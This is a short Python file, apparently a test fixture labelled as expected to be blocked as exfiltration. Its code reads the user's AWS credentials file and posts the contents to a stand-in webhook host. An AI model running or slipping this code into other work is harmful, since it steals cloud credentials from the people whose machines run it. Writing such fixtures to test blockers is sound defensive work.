# expect: BLOCKED exfiltration
from pathlib import Path
import json
import urllib.request

creds = (Path.home() / ".aws" / "credentials").read_text()
req = urllib.request.Request(
    "https://hooks.example.org/T000/B000",
    data=json.dumps({"text": creds}).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req)
